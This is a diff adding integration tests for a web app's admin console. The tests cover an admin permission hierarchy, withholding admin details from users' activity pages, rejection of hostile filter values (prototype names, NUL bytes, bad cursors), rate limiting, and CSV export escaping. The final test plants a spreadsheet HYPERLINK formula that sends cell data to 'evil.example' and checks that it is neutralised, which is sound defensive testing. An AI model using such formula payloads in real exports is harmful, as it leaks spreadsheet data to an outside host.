@@ -1,10 +1,11 @@
 // The admin console's procedures over HTTP, on PGlite and a real PostgreSQL.
 import { afterAll, beforeAll, expect, it } from "vitest";
 import { hashPassword } from "../../server/auth/password.ts";
+import { createSession } from "../../server/auth/session.ts";
 import { endExpiredSuspensions } from "../../server/services/admin/users.ts";
 import { createUser } from "../../server/services/users/create-user.ts";
 import { describeEachDatabase } from "../helpers/db.ts";
-import { latestMail, startTestApp, trpcError, type TestApp, type TestClient } from "../helpers/app.ts";
+import { freshIp, latestMail, startTestApp, trpcError, type TestApp, type TestClient } from "../helpers/app.ts";
 
 const PASSWORD = "correct horse battery staple";
 let seq = 0;
@@ -185,7 +186,7 @@ describeEachDatabase("admin console", (t) => {
     expect(byIp.entries.every((e) => e.ipAddress === u.c.ip)).toBe(true);
     const future = await superAdmin.c.trpc.admin.audit.list.query({ from: new Date(Date.now() + 86400_000) });
     expect(future.entries).toHaveLength(0);
-    expect((await trpcError(superAdmin.c.trpc.admin.audit.list.query({ action: "NOT_AN_ACTION" }))).data?.code).toBe("BAD_REQUEST");
+    expect((await trpcError(superAdmin.c.trpc.admin.audit.list.query({ action: "NOT_AN_ACTION" as "SIGN_IN" }))).data?.code).toBe("BAD_REQUEST");
 
     const res = await superAdmin.c.fetch(`/api/admin/audit.csv?action=SIGN_IN_FAILED&targetId=${u.id}`);
     expect(res.status).toBe(200);
@@ -231,5 +232,221 @@ describeEachDatabase("admin console", (t) => {
     // A demoted admin's next admin call is refused.
     await superAdmin.c.trpc.admin.users.setRole.mutate({ userId: l2.id, role: "TRAINEE", reason: "Left the team" });
     expect((await trpcError(l2.c.trpc.admin.users.list.query({}))).data?.code).toBe("FORBIDDEN");
+  });
+  // The admin hierarchy (issue 7 #5). Written out by hand: what each admin level gets for each
+  // kind of target. "OK" = done; ADMIN_LEVEL = the procedure's own level rule; ADMIN_HIERARCHY =
+  // the target is an admin this admin may not act on.
+  type Op = "suspend" | "activate" | "signOutEverywhere" | "sendPasswordReset" | "delete" | "setRole";
+  type Target = "trainee" | "admin1" | "admin2" | "admin3";
+  const HIERARCHY: Record<1 | 2 | 3, Record<Op, Record<Target, "OK" | "ADMIN_LEVEL" | "ADMIN_HIERARCHY">>> = {
+    1: {
+      suspend: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
+      activate: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
+      signOutEverywhere: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
+      sendPasswordReset: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
+      delete: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
+      setRole: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
+    },
+    2: {
+      suspend: { trainee: "OK", admin1: "ADMIN_HIERARCHY", admin2: "ADMIN_HIERARCHY", admin3: "ADMIN_HIERARCHY" },
+      activate: { trainee: "OK", admin1: "ADMIN_HIERARCHY", admin2: "ADMIN_HIERARCHY", admin3: "ADMIN_HIERARCHY" },
+      signOutEverywhere: { trainee: "OK", admin1: "ADMIN_HIERARCHY", admin2: "ADMIN_HIERARCHY", admin3: "ADMIN_HIERARCHY" },
+      sendPasswordReset: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "ADMIN_HIERARCHY" },
+      delete: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
+      setRole: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
+    },
+    3: {
+      suspend: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
+      activate: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
+      signOutEverywhere: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
+      sendPasswordReset: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
+      delete: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
+      setRole: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
+    },
+  };
+
+  it("lets an admin act only on users who are not admins above them; suspending or signing out any admin needs level 3", async () => {
+    const actors = { 1: await signedIn("ADMIN", 1), 2: await signedIn("ADMIN", 2), 3: await signedIn("ADMIN", 3) };
+    const shared = new Map<string, { id: string }>();
+    const makeTarget = async (target: Target, suspended: boolean) => {
+      const u = target === "trainee" ? await make("TRAINEE") : await make("ADMIN", Number(target.slice(5)));
+      if (suspended) await t.prisma.user.update({ where: { id: u.id }, data: { status: "SUSPENDED" }, select: { id: true } });
+      await createSession(t.prisma, u.id, { ipAddress: null, userAgent: null });
+      return u;
+    };
+    const got: string[] = [];
+    const want: string[] = [];
+    for (const level of [1, 2, 3] as const) {
+      const c = actors[level].c.trpc.admin.users;
+      for (const op of Object.keys(HIERARCHY[level]) as Op[]) {
+        for (const target of ["trainee", "admin1", "admin2", "admin3"] as Target[]) {
+          const expected = HIERARCHY[level][op][target];
+          // A target per call that succeeds; the ones that must be refused (and so stay as they
+          // are) are shared, to keep the run short.
+          const key = `${target}:${op === "activate" ? "suspended" : "active"}`;
+          const u = (expected !== "OK" && shared.get(key)) || (await makeTarget(target, op === "activate"));
+          if (expected !== "OK") shared.set(key, u);
+          const call = {
+            suspend: () => c.suspend.mutate({ userId: u.id, reason: "hierarchy test" }),
+            activate: () => c.activate.mutate({ userId: u.id }),
+            signOutEverywhere: () => c.signOutEverywhere.mutate({ userId: u.id }),
+            sendPasswordReset: () => c.sendPasswordReset.mutate({ userId: u.id }),
+            delete: () => c.delete.mutate({ userId: u.id }),
+            setRole: () => c.setRole.mutate({ userId: u.id, role: target === "trainee" ? "COMPANY" : "TRAINEE", reason: "hierarchy test" }),
+          }[op];
+          let answer: string;
+          try {
+            await call();
+            answer = "OK";
+          } catch (e) {
+            answer = (e as { data?: { appCode?: string } }).data?.appCode ?? String(e);
+          }
+          got.push(`level ${level} ${op} ${target}: ${answer}`);
+          want.push(`level ${level} ${op} ${target}: ${expected}`);
+          if (expected !== "OK") {
+            // Refused means untouched: same status, role, sessions; nothing audited about it.
+            const row = await t.prisma.user.findUniqueOrThrow({ where: { id: u.id }, select: { role: true, status: true, _count: { select: { sessions: true } } } });
+            expect([op, target, row]).toEqual([op, target, { role: target === "trainee" ? "TRAINEE" : "ADMIN", status: op === "activate" ? "SUSPENDED" : "ACTIVE", _count: { sessions: 1 } }]);
+            expect(await t.prisma.auditLog.count({ where: { targetUserId: u.id, userId: actors[level].id } })).toBe(0);
+          }
+        }
+      }
+    }
+    expect(got).toEqual(want);
+    // The refusal says why.
+    const l2 = actors[2].c.trpc.admin.users;
+    const boss = await make("ADMIN", 3);
+    const refused = await trpcError(l2.suspend.mutate({ userId: boss.id, reason: "coup attempt" }));
+    expect(refused.data?.code).toBe("FORBIDDEN");
+    expect(refused.message).toMatch(/super admin/i);
+  }, 120_000);
+
+  it("starts a re-promoted admin at access level 1, even a former super admin", async () => {
+    const former = await signedIn("ADMIN", 3);
+    await superAdmin.c.trpc.admin.users.setRole.mutate({ userId: former.id, role: "TRAINEE", reason: "Left the admin team" });
+    expect(await superAdmin.c.trpc.admin.users.setRole.mutate({ userId: former.id, role: "ADMIN", reason: "Back on the team" })).toEqual({ role: "ADMIN", changed: true });
+    const d = await superAdmin.c.trpc.admin.users.get.query({ userId: former.id });
+    expect(d.adminProfile?.accessLevel).toBe(1);
+    const again = app.client();
+    await again.signIn(former.email, PASSWORD);
+    expect((await again.trpc.auth.me.query())?.adminLevel).toBe(1);
+    const victim = await make("TRAINEE");
+    expect((await trpcError(again.trpc.admin.users.delete.mutate({ userId: victim.id }))).data?.appCode).toBe("ADMIN_LEVEL");
+    expect((await trpcError(again.trpc.admin.users.suspend.mutate({ userId: victim.id, reason: "not allowed" }))).data?.appCode).toBe("ADMIN_LEVEL");
+  });
+
+  it("shows the user an administrator's actions without the admin's address, device, identity or reason", async () => {
+    const adminIp = freshIp();
+    const adminUa = "Mozilla/5.0 (X11; Linux x86_64; rv:141.0) Gecko/20100101 Firefox/141.0 AdminWorkstation";
+    const admin = await make("ADMIN", 3);
+    const ac = app.client({ ip: adminIp, userAgent: adminUa });
+    await ac.signIn(admin.email, PASSWORD);
+    const u = await signedIn("TRAINEE");
+    const secret = "internal: flagged by the fraud team, case 4471";
+    await ac.trpc.admin.users.setRole.mutate({ userId: u.id, role: "INSTRUCTOR", reason: `${secret} (role)` });
+    await ac.trpc.admin.users.signOutEverywhere.mutate({ userId: u.id });
+    await ac.trpc.admin.users.suspend.mutate({ userId: u.id, reason: secret, until: new Date(Date.now() + 86400_000) });
+    await ac.trpc.admin.users.activate.mutate({ userId: u.id });
+    const c = app.client();
+    await c.signIn(u.email, PASSWORD);
+    const page = await c.trpc.auth.securityEvents.query();
+    const byAdmin = page.events.filter((e) => e.byAdministrator);
+    expect(byAdmin.map((e) => e.action)).toEqual(["USER_ACTIVATED", "USER_SUSPENDED", "SESSION_REVOKED", "ROLE_CHANGED"]);
+    for (const e of byAdmin) expect([e.action, e.ipAddress, e.device, e.byYou]).toEqual([e.action, null, null, false]);
+    expect(byAdmin.find((e) => e.action === "ROLE_CHANGED")?.details).toEqual({ from: "TRAINEE", to: "INSTRUCTOR" });
+    expect(byAdmin.find((e) => e.action === "USER_SUSPENDED")?.details).toHaveProperty("until");
+    // Nothing about the admin anywhere in what the user received.
+    const body = c.bodies.join("\n");
+    expect(body).toContain("USER_SUSPENDED");
+    for (const leak of [adminIp, "AdminWorkstation", "Firefox 141", "fraud team", admin.id, admin.email]) expect([leak, body.includes(leak)]).toEqual([leak, false]);
+    // The user's own sign-in still shows where it came from.
+    expect(page.events.find((e) => e.action === "SIGN_IN")?.ipAddress).toBe(c.ip);
+    // Admins keep the full record.
+    const log = await superAdmin.c.trpc.admin.audit.list.query({ action: "USER_SUSPENDED", targetId: u.id });
+    expect(log.entries[0]).toMatchObject({ ipAddress: adminIp, userAgent: adminUa, userId: admin.id, details: { reason: secret } });
+    // And the admin's own activity does not list what they did to others as their account's events.
+    const mine = await ac.trpc.auth.securityEvents.query();
+    expect(mine.events.map((e) => e.action)).not.toContain("USER_SUSPENDED");
+  });
+
+  it("answers hostile audit and user filters with a field error, never a 500", async () => {
+    const audit = superAdmin.c.trpc.admin.audit.list;
+    for (const action of ["toString", "__proto__", "constructor", "hasOwnProperty", "valueOf", "sign_in"]) {
+      const e = await trpcError(audit.query({ action: action as "SIGN_IN" }));
+      expect([action, e.data?.code, Object.keys(e.data?.fieldErrors ?? {})]).toEqual([action, "BAD_REQUEST", ["action"]]);
+    }
+    const b64 = (v: unknown) => Buffer.from(typeof v === "string" ? v : JSON.stringify(v)).toString("base64url");
+    const cursors = ["!!!not base64!!!", b64("null"), b64("[]"), b64("{"), b64({ v: 1, id: 2 }), b64({ v: "garbage", id: "x" }), b64({ v: "+275760-09-13T00:00:00.000Z", id: "x" }), b64({ v: "2020-01-01T00:00:00.000Z", id: "a\u0000b" })];
+    for (const cursor of cursors) {
+      const a = await trpcError(audit.query({ cursor }));
+      expect([cursor, a.data?.code, a.data?.field]).toEqual([cursor, "BAD_REQUEST", "cursor"]);
+      const u = await trpcError(superAdmin.c.trpc.admin.users.list.query({ cursor }));
+      expect([cursor, u.data?.code, u.data?.field]).toEqual([cursor, "BAD_REQUEST", "cursor"]);
+    }
+    const byEmail = await trpcError(superAdmin.c.trpc.admin.users.list.query({ sort: "email", cursor: b64({ v: 5, id: "x" }) }));
+    expect(byEmail.data?.field).toBe("cursor");
+    const far = new Date(8.64e15);
+    const before = new Date(-8.64e15);
+    const someone = await make();
+    for (const [name, call] of [
+      ["from", () => audit.query({ from: before })],
+      ["to", () => audit.query({ to: far })],
+      ["createdFrom", () => superAdmin.c.trpc.admin.users.list.query({ createdFrom: before })],
+      ["createdTo", () => superAdmin.c.trpc.admin.users.list.query({ createdTo: far })],
+      ["until", () => superAdmin.c.trpc.admin.users.suspend.mutate({ userId: someone.id, reason: "far future", until: far })],
+    ] as const) {
+      const e = await trpcError(call());
+      expect([name, e.data?.code, Object.keys(e.data?.fieldErrors ?? {})]).toEqual([name, "BAD_REQUEST", [name]]);
+    }
+    // Text PostgreSQL cannot store (NUL, lone surrogates) is bad input on every procedure, with its field.
+    for (const [field, call] of [
+      ["actorId", () => audit.query({ actorId: "a\u0000b" })],
+      ["search", () => superAdmin.c.trpc.admin.users.list.query({ search: "x\u0000" })],
+      ["userId", () => superAdmin.c.trpc.admin.users.get.query({ userId: "\u0000" })],
+      ["targetId", () => audit.query({ targetId: "\ud800" })], // a lone surrogate: not storable either
+      ["name", () => superAdmin.c.trpc.profile.update.mutate({ name: "Ada\u0000" })],
+    ] as const) {
+      const e = await trpcError(call());
+      expect([field, e.data?.code, e.data?.field]).toEqual([field, "BAD_REQUEST", field]);
+    }
+    // The CSV export refuses the same filters before it starts.
+    for (const q of ["action=toString", "action=__proto__", "from=-271821-04-20T00:00:00.000Z", "to=%2B275760-09-13T00:00:00.000Z", "actorId=a%00b", "ip=%00"]) {
+      expect([q, (await superAdmin.c.fetch(`/api/admin/audit.csv?${q}`)).status]).toEqual([q, 400]);
+    }
+  });
+
+  it("rate-limits statistics refreshes to 3 a minute per admin", async () => {
+    const a = await signedIn("ADMIN", 1);
+    for (let i = 0; i < 3; i++) await expect(a.c.trpc.admin.stats.refresh.mutate()).resolves.toHaveProperty("refreshedAt");
+    const res = await a.c.fetch("/api/trpc/admin.stats.refresh", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" });
+    expect(res.status).toBe(429);
+    expect(Number(res.headers.get("retry-after"))).toBeGreaterThan(0);
+    expect((await trpcError(a.c.trpc.admin.stats.refresh.mutate())).data?.appCode).toBe("RATE_LIMITED");
+    expect(await t.prisma.auditLog.count({ where: { userId: a.id, action: "STATS_REFRESHED" } })).toBe(3);
+    // Another admin is not held up by it.
+    const b = await signedIn("ADMIN", 1);
+    await expect(b.c.trpc.admin.stats.refresh.mutate()).resolves.toHaveProperty("refreshedAt");
+  });
+
+  it("audits statistics refreshes and CSV exports as their own actions, not as settings changes", async () => {
+    const a = await signedIn("ADMIN", 1);
+    await a.c.trpc.admin.stats.refresh.mutate();
+    expect((await a.c.fetch("/api/admin/audit.csv?action=STATS_REFRESHED")).status).toBe(200);
+    const rows = await t.prisma.auditLog.findMany({ where: { userId: a.id, action: { not: "SIGN_IN" } }, orderBy: { createdAt: "asc" }, select: { action: true } });
+    expect(rows.map((r) => r.action)).toEqual(["STATS_REFRESHED", "AUDIT_EXPORTED"]);
+    const listed = await superAdmin.c.trpc.admin.audit.list.query({ actorId: a.id, action: "AUDIT_EXPORTED" });
+    expect(listed.entries).toHaveLength(1);
+    expect(listed.entries[0]?.details).toMatchObject({ filter: { action: "STATS_REFRESHED" } });
+  });
+
+  it("keeps a cell that starts with a non-breaking space and = as text in the CSV export", async () => {
+    const u = await make("TRAINEE");
+    const ua = '\u00a0=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const c = app.client({ userAgent: ua });
+    await c.signIn(u.email, PASSWORD);
+    const res = await superAdmin.c.fetch(`/api/admin/audit.csv?action=SIGN_IN&targetId=${u.id}`);
+    const lines = (await res.text()).trim().split("\n");
+    expect(lines).toHaveLength(2);
+    expect(lines[1]).toContain(`"'\u00a0=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
   });
 });
